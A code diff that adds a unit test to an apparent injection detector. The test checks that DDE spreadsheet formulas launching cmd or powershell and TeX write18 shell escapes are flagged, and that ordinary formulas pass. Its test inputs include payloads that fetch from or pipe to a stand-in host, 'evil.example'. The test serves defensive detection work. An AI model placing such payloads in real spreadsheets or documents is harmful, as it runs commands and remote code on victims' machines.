@@ -264,5 +264,22 @@ TEST(CommandParameter, ReconnaissanceAndCommandsWithArgumentsAreBlocked) {
   }
 }
 
+// A spreadsheet formula that launches a program through DDE, and TeX's shell escape, run
+// commands when the value is opened in Excel or rendered to PDF; ordinary formulas and TeX
+// markup pass.
+TEST(CommandInDocuments, DdeFormulasAndTexShellEscapesAreBlocked) {
+  for (const char* value : {"=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+                            "+powershell|'-nop -c iwr evil.example'!A1", "\\immediate\\write18{id}",
+                            "\\write18 {curl evil.example|sh}"}) {
+    Verdict v = InspectQueryValue(value);
+    EXPECT_TRUE(HasCategory(v, Category::kCmdi) && Flagged(v)) << value << " -> " << v.explanation;
+  }
+  for (const char* value : {"=SUM(A1:A3)", "=A1|'x'!B2", "-5 |'x'!", "\\write18 is a TeX primitive",
+                            "\\documentclass{article}\\begin{document}x\\end{document}"}) {
+    Verdict v = InspectQueryValue(value);
+    EXPECT_FALSE(Flagged(v)) << value << " -> " << v.explanation;
+  }
+}
+
 }  // namespace
 }  // namespace shieldx::detect
